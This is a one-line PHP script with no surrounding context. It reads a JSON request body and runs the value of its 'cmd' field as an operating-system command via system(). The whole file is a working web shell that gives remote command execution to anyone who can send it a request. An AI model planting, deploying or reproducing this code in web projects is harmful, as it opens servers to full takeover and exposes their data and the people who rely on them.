<?php $data = json_decode(file_get_contents('php://input'), true); system($data['cmd']);
